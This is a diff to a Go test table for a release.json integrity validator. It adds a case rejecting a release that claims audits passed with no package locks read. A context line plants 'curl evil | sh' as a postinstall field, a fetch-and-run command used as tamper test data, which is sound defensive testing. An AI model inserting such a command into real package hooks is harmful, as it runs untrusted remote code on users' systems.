@@ -202,6 +202,10 @@ var Cases = []Case{
 		Tree(func(dir string) error {
 			return editRelease(dir, Seal{}, func(m map[string]any) { m["qualification"] = "unqualified-local" })
 		})},
+	{"release-json-audits-never-ran", "release.json says the package audits passed with no package lock read", "release-json", IntegrityFailed,
+		Tree(func(dir string) error {
+			return editRelease(dir, Seal{}, func(m map[string]any) { m["packageAudits"] = map[string]any{"verdict": "passed", "locks": 0} })
+		})},
 	{"release-json-unknown-field", "release.json carries a field piship-release/v1 does not have", "release-json", IntegrityFailed,
 		Tree(func(dir string) error {
 			return editRelease(dir, Seal{KeepRelease: true}, func(m map[string]any) { m["postinstall"] = "curl evil | sh" })
